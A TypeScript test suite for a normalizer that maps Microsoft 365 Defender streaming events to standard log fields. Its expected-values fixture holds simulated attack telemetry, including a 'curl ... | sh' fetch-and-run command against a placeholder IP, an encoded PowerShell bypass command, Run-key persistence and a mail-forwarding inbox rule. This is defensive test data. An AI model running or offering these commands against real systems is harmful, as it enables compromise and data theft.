import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import type { NormalizedEvent } from '../../shared/model/event';
import { isoTime, decodeJson } from '../../shared/normalize/coerce';
import { processStreamingMessages } from '../../shared/pipeline/streaming';
import { serializeEvent } from '../../shared/model/serialize';

/** The repo's own samples: one Event Hubs body per line, every streamable table. */
const SAMPLES = path.join(__dirname, '..', '..', '..', 'samples', 'streaming');

function loadSampleEvents(): NormalizedEvent[] {
  const messages = readdirSync(SAMPLES).filter((f) => f.endsWith('.ndjson')).flatMap((f) =>
    readFileSync(path.join(SAMPLES, f), 'utf8').split('\n').filter(Boolean).map((body, i) => ({ body, provenance: { source: 'file' as const, file: f, line: i + 1, messageIndex: i } })));
  const r = processStreamingMessages(messages, { includeOriginal: false });
  assert.equal(r.failures.length, 0, JSON.stringify(r.failures));
  return r.events.map((e) => e.event);
}

function get(o: unknown, p: string): unknown {
  return p.split('.').reduce<unknown>((a, k) => (a && typeof a === 'object' ? (a as Record<string, unknown>)[k] : undefined), o);
}

/** Fixture in -> expected normalized fields out, per table (the first sample record of each table). */
const EXPECTED: Record<string, Record<string, unknown>> = {
  DeviceProcessEvents: {
    'event.category': ['process'], 'event.type': ['start'], 'event.action': 'ProcessCreated', 'host.name': 'ws-alice01.contoso.com',
    'host.id': '7f3a9c2b1d4e5f60718293a4b5c6d7e8f9012345', 'user.name': 'alice', 'user.domain': 'contoso', 'process.name': 'whoami.exe',
    'process.command_line': 'whoami.exe /all', 'process.pid': 8844, 'process.parent.name': 'powershell.exe', 'process.parent.pid': 7312,
    'process.parent.parent.name': 'explorer.exe', 'process.hash.sha256': 'a7f2b8e4c1d3f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0',
    '@timestamp': '2026-11-23T10:01:02.123Z', 'm365_defender.timestamp': '2026-11-23T10:01:02.1234567Z', 'm365_defender.report_id': '4294967301',
    'm365_defender.decoded.AdditionalFields': { InitiatingProcessAccountType: 'User' },
  },
  DeviceNetworkEvents: {
    'event.category': ['network'], 'event.type': ['connection', 'start'], 'source.ip': '10.20.30.40', 'source.port': 51544,
    'destination.ip': '203.0.113.45', 'destination.port': 443, 'url.original': 'updates.example-cdn.net', 'network.transport': 'tcp',
    'network.direction': 'egress', 'process.name': 'powershell.exe', 'process.parent.name': 'explorer.exe', 'user.name': 'alice',
  },
  DeviceFileEvents: {
    'event.category': ['file'], 'event.type': ['creation'], 'file.name': 'invoice_2026.pdf.exe', 'file.extension': 'exe', 'file.size': 1245184,
    'file.hash.sha1': 'b1946ac92492d2347c6235b4d2611184b1946ac9', 'process.name': 'msedge.exe', 'url.original': 'https://files.example.org/dl/invoice_2026.pdf.exe',
  },
  DeviceRegistryEvents: {
    'event.category': ['registry'], 'event.type': ['change'], 'registry.key': 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    'registry.hive': 'HKCU', 'registry.value': 'Updater', 'registry.data.strings': ['C:\\Users\\alice\\AppData\\Roaming\\updater.exe -silent'], 'registry.data.type': 'String',
  },
  DeviceLogonEvents: {
    'event.category': ['authentication'], 'event.outcome': 'failure', 'event.reason': 'InvalidUserNameOrPassword', 'user.name': 'administrator',
    'source.ip': '198.51.100.77', 'source.port': 40122, 'source.domain': 'kali', 'network.protocol': 'ntlm', 'host.name': 'srv-db02.contoso.com',
  },
  DeviceImageLoadEvents: { 'event.category': ['library'], 'file.name': 'amsi.dll', 'process.name': 'powershell.exe' },
  DeviceEvents: {
    'event.category': ['host'], 'event.action': 'AntivirusDetection', 'file.name': 'invoice_2026.pdf.exe', 'destination': undefined,
    'm365_defender.decoded.AdditionalFields': { ThreatName: 'Trojan:Win32/Wacatac.B!ml', WasExecutingWhileDetected: false, WasRemediated: true, Action: 'quarantine' },
  },
  DeviceInfo: {
    'event.kind': 'state', 'event.category': ['host'], 'host.os.platform': 'Windows11', 'host.ip': ['203.0.113.9'], 'host.type': 'Workstation',
    'm365_defender.decoded.LoggedOnUsers': [{ UserName: 'alice', DomainName: 'CONTOSO', Sid: 'S-1-5-21-1004336348-1177238915-682003330-1105' }],
    'm365_defender.decoded.AdditionalFields': undefined,
  },
  DeviceNetworkInfo: {
    'host.ip': ['10.20.30.40', 'fe80::215:5dff:fe01:203'], 'm365_defender.decoded.DnsAddresses': ['10.0.0.53'],
    'm365_defender.timestamp': '2026-11-23T10:00:00.0000001Z', '@timestamp': '2026-11-23T10:00:00.000Z',
  },
  DeviceFileCertificateInfo: { 'file.hash.sha1': 'b1946ac92492d2347c6235b4d2611184b1946ac9', 'host.name': 'ws-alice01.contoso.com' },
  AlertInfo: {
    'event.kind': 'alert', 'event.severity': 73, 'rule.name': 'Suspicious PowerShell command line', 'rule.id': 'da638671234567890123_-1234567890',
    'threat.technique.id': ['T1059', 'T1059.001'], 'threat.technique.name': ['Command and Scripting Interpreter', 'PowerShell'], 'threat.tactic.name': ['Execution'],
    'observer.type': 'Microsoft Defender for Endpoint', message: 'Suspicious PowerShell command line',
  },
  AlertEvidence: {
    'event.kind': 'alert', 'event.category': ['threat', 'process'], 'process.command_line': 'powershell.exe -NoProfile -ExecutionPolicy Bypass -enc SQBFAFgA',
    'host.name': 'ws-alice01.contoso.com', 'user.name': 'alice', 'source.ip': '10.20.30.40', 'threat.technique.id': ['T1059.001'],
  },
  BehaviorInfo: { 'event.kind': 'alert', 'event.severity': 47, 'rule.name': 'Impossible travel activity', 'user.email': 'alice@contoso.com', 'threat.technique.id': ['T1078'] },
  BehaviorEntities: { 'event.kind': 'alert', 'destination.ip': '192.0.2.200' },
  EmailEvents: {
    'event.category': ['email'], 'email.from.address': ['billing@example.net'], 'email.to.address': ['alice@contoso.com'], 'email.direction': 'inbound',
    'email.subject': 'Invoice 2026-11 \u2013 payment overdue (Azure\u00c2\u00ae)', 'email.message_id': '<CAF1234567890@mail.example.net>', 'source.ip': '192.0.2.44',
    'm365_defender.decoded.AuthenticationDetails': { SPF: 'fail', DKIM: 'none', DMARC: 'fail', CompAuth: 'fail' },
  },
  EmailAttachmentInfo: { 'event.category': ['email', 'file'], 'file.name': 'invoice_2026.pdf.exe', 'file.hash.sha256': '5d41402abc4b2a76b9719d911017c5925d41402abc4b2a76b9719d911017c592' },
  EmailUrlInfo: { 'url.original': 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', 'url.domain': 'files.example.org' },
  EmailPostDeliveryEvents: { 'event.action': 'Phish ZAP', 'email.to.address': ['alice@contoso.com'] },
  UrlClickEvents: { 'event.category': ['web'], 'url.original': 'https://files.example.org/dl/invoice_2026.pdf.exe?id=42&u=alice', 'source.ip': '203.0.113.9', 'user.email': 'alice@contoso.com' },
  MessageEvents: { 'email.from.address': ['mallory@fabrikam.example'], 'm365_defender.decoded.ThreatTypes': ['Phish'] },
  MessageUrlInfo: { 'url.domain': 'login.fabrikam-secure.example' },
  MessagePostDeliveryEvents: { 'event.action': 'Phish ZAP', 'email.from.address': ['mallory@fabrikam.example'] },
  IdentityLogonEvents: {
    'event.category': ['authentication'], 'event.outcome': 'failure', 'user.name': 'bob', 'host.name': 'ws-bob02.contoso.com', 'host.ip': ['10.20.31.7'],
    'destination.ip': '10.0.0.10', 'destination.port': 88, 'network.protocol': 'kerberos',
  },
  IdentityQueryEvents: { 'dns.question.name': 'malicious-c2.example', 'destination.port': 53, 'host.name': 'ws-alice01.contoso.com' },
  IdentityDirectoryEvents: { 'event.category': ['iam'], 'user.name': 'eve', 'user.target.name': 'bob@contoso.com', 'threat.technique.id': ['T1098', 'T1087.002'] },
  IdentityInfo: { 'event.kind': 'state', 'event.type': ['info', 'user'], 'user.name': 'alice', 'user.email': 'alice@contoso.com' },
  CloudAppEvents: {
    'user.name': 'Alice Anders', 'source.ip': '192.0.2.200', 'source.geo.country_iso_code': 'NL',
    'm365_defender.decoded.RawEventData': { Operation: 'New-InboxRule', Parameters: [{ Name: 'ForwardTo', Value: 'drop@example.net' }] },
    'm365_defender.decoded.AdditionalFields': undefined,
  },
  CloudAuditEvents: { 'source.ip': '192.0.2.200', 'event.action': 'Microsoft.Authorization/roleAssignments/write' },
  CloudProcessEvents: { 'process.name': 'curl', 'process.command_line': 'curl -s http://198.51.100.99/x.sh | sh', 'process.parent.name': 'sh', 'user.name': 'root' },
  CloudStorageAggregatedEvents: { 'source.ip': '198.51.100.99', 'm365_defender.decoded.OperationNamesList': ['GetBlob', 'ListBlobs'] },
};

/** Streamable tables named in the field guide, plus the newer ones real streams carry. */
const STREAMABLE = [
  'AlertEvidence', 'AlertInfo', 'CloudAppEvents', 'DeviceEvents', 'DeviceFileCertificateInfo', 'DeviceFileEvents', 'DeviceImageLoadEvents', 'DeviceInfo',
  'DeviceLogonEvents', 'DeviceNetworkEvents', 'DeviceNetworkInfo', 'DeviceProcessEvents', 'DeviceRegistryEvents', 'EmailAttachmentInfo', 'EmailEvents',
  'EmailPostDeliveryEvents', 'EmailUrlInfo', 'IdentityLogonEvents', 'IdentityQueryEvents', 'IdentityDirectoryEvents', 'UrlClickEvents', 'IdentityInfo',
];

test('the bundled samples cover every streamable table', () => {
  const tables = new Set(loadSampleEvents().map((e) => e.m365_defender.table));
  for (const t of STREAMABLE) assert.ok(tables.has(t), `samples lack ${t}`);
});

test('per-table mapping: fixture in -> expected normalized fields out', () => {
  const events = loadSampleEvents();
  const seen = new Set<string>();
  for (const e of events) {
    const table = e.m365_defender.table as string;
    if (seen.has(table)) continue;
    seen.add(table);
    const expected = EXPECTED[table];
    assert.ok(expected, `no expectation for ${table}`);
    const actual = JSON.parse(JSON.stringify(e)); // compare what goes on the wire
    for (const [field, value] of Object.entries(expected)) {
      assert.deepEqual(get(actual, field), value, `${table}: ${field}`);
    }
    assert.equal(actual.event.dataset, `m365_defender.${table.toLowerCase()}`);
    assert.equal(actual.cloud.account.id, '3f2b9c1e-7a4d-4e21-9b0a-5c6d7e8f9a01');
    assert.equal(actual.observer.vendor, 'Microsoft');
    assert.equal(actual.event.module, 'm365_defender');
    assert.match(actual.event.id, /^[0-9a-f]{32}$/);
  }
  assert.deepEqual([...seen].sort(), Object.keys(EXPECTED).sort());
});

test('inbound connections point source at the remote peer', () => {
  const inbound = loadSampleEvents().find((e) => e.event.action === 'InboundConnectionAccepted')!;
  assert.equal(inbound.source?.ip, '2001:db8::17');
  assert.equal(inbound.destination?.ip, '2001:db8::5');
  assert.equal(inbound.destination?.port, 1433);
  assert.equal(inbound.network?.direction, 'ingress');
});

test('DNS queries seen by the network sensor map to dns.question.name', () => {
  const dns = loadSampleEvents().find((e) => e.event.action === 'DnsConnectionInspected')!;
  assert.equal(dns.dns?.question?.name, 'malicious-c2.example');
});

test('JSON-encoded columns decode from strings, objects, "", "[]" and null', () => {
  assert.deepEqual(decodeJson('{"a":1}'), { a: 1 });
  assert.deepEqual(decodeJson({ a: 1 }), { a: 1 });
  assert.deepEqual(decodeJson('["x"]'), ['x']);
  assert.equal(decodeJson(''), undefined);
  assert.equal(decodeJson('[]'), undefined);
  assert.equal(decodeJson(null), undefined);
  assert.equal(decodeJson('not json'), 'not json');
  assert.equal(decodeJson('{broken'), '{broken');
  const variants: unknown[] = ['{"CallerProcessID":4248}', { CallerProcessID: 4248 }, '', '[]', null];
  for (const v of variants) {
    const r = processStreamingMessages([{ body: { category: 'AdvancedHunting-DeviceEvents', properties: { AdditionalFields: v, AttackTechniques: v, DeviceName: 'h' } }, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal: false });
    assert.equal(r.failures.length, 0);
    const m = r.events[0].event.m365_defender;
    const af = (m.decoded as Record<string, unknown> | undefined)?.AdditionalFields;
    if (v === '' || v === '[]' || v === null) assert.equal(af, undefined);
    else assert.deepEqual(af, { CallerProcessID: 4248 });
    assert.deepEqual((m.properties as Record<string, unknown>).AdditionalFields, v, 'properties stay verbatim');
  }
});

test('timestamps with 0 to 7 fraction digits keep full precision beside the parsed time', () => {
  const cases: Array<[string, string]> = [
    ['2026-11-23T10:00:00Z', '2026-11-23T10:00:00.000Z'],
    ['2026-11-23T10:00:00.1Z', '2026-11-23T10:00:00.100Z'],
    ['2026-11-23T10:00:00.12Z', '2026-11-23T10:00:00.120Z'],
    ['2026-11-23T10:00:00.1234567Z', '2026-11-23T10:00:00.123Z'],
    ['2026-11-23T10:00:00.9999999Z', '2026-11-23T10:00:00.999Z'],
    ['2026-11-23T12:00:00.5+02:00', '2026-11-23T10:00:00.500Z'],
  ];
  for (const [raw, iso] of cases) {
    assert.equal(isoTime(raw), iso, raw);
    const r = processStreamingMessages([{ body: { category: 'AdvancedHunting-DeviceInfo', time: '2026-11-23T11:00:00.7654321Z', properties: { Timestamp: raw } }, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal: false });
    assert.equal(r.events[0].event['@timestamp'], iso);
    assert.equal(r.events[0].event.m365_defender.timestamp, raw);
    assert.equal(r.events[0].event.m365_defender.time, '2026-11-23T11:00:00.7654321Z');
  }
  assert.equal(isoTime('2026-13-45T99:00:00Z'), undefined);
  const noTs = processStreamingMessages([{ body: { category: 'AdvancedHunting-DeviceInfo', time: '2026-11-23T11:00:00.7654321Z', properties: { Timestamp: 'garbage' } }, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal: false });
  assert.equal(noTs.events[0].event['@timestamp'], '2026-11-23T11:00:00.765Z');
});

test('unknown categories are kept and normalized generically, never dropped', () => {
  const r = processStreamingMessages([{ body: { records: [
    { category: 'AdvancedHunting-SomethingNew2027', tenantId: 't', properties: { Timestamp: '2026-11-23T10:00:00Z', DeviceName: 'NEWHOST', AccountName: 'zed', IPAddress: '192.0.2.1', Blob: '{"k":[1,2]}', Plain: '[not json' } },
    { category: 'NotEvenAdvancedHunting', properties: { x: 1 } },
  ] }, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal: false });
  assert.equal(r.failures.length, 0);
  const [a, b] = r.events.map((e) => e.event);
  assert.equal(a.event.dataset, 'm365_defender.somethingnew2027');
  assert.equal(a.host?.name, 'newhost');
  assert.equal(a.user?.name, 'zed');
  assert.equal(a.source?.ip, '192.0.2.1');
  assert.deepEqual((a.m365_defender.decoded as Record<string, unknown>).Blob, { k: [1, 2] });
  assert.equal((a.m365_defender.decoded as Record<string, unknown>).Plain, undefined);
  assert.equal((a.m365_defender.properties as Record<string, unknown>).Plain, '[not json');
  assert.equal(b.m365_defender.table, 'NotEvenAdvancedHunting');
  assert.deepEqual(b.m365_defender.properties, { x: 1 });
});

test('event.id is deterministic and content-derived; INCLUDE_ORIGINAL adds event.original', () => {
  const rec = { category: 'AdvancedHunting-DeviceProcessEvents', tenantId: 't', time: '2026-11-23T10:00:01Z', properties: { DeviceId: 'd', ReportId: 1, Timestamp: '2026-11-23T10:00:00Z' } };
  const id = (r: unknown, includeOriginal = false) => processStreamingMessages([{ body: r, provenance: { source: 'eventhub', messageIndex: 0 } }], { includeOriginal }).events[0].event;
  const a = id(rec);
  assert.equal(a.event.id, id(JSON.parse(JSON.stringify(rec))).event.id, 'same record, same id');
  assert.equal(a.event.id, id({ ...rec, time: '2026-11-24T00:00:00Z' }).event.id, 're-export of the same row keeps its id');
  assert.notEqual(a.event.id, id({ ...rec, properties: { ...rec.properties, ReportId: 2 } }).event.id);
  assert.notEqual(a.event.id, id({ ...rec, category: 'AdvancedHunting-DeviceEvents' }).event.id);
  assert.notEqual(a.event.id, id({ ...rec, tenantId: 'u' }).event.id);
  assert.equal(a.event.original, undefined);
  assert.equal(id(rec, true).event.original, JSON.stringify(rec));
});

test('serializeEvent gives the same JSON members as JSON.stringify, without re-walking the properties', () => {
  for (const e of loadSampleEvents()) {
    assert.deepEqual(JSON.parse(serializeEvent(e)), JSON.parse(JSON.stringify(e)));
  }
  const plain = JSON.parse(JSON.stringify(loadSampleEvents()[0])) as NormalizedEvent;
  assert.deepEqual(JSON.parse(serializeEvent(plain)), plain, 'an event without cached properties JSON is written in full');
});
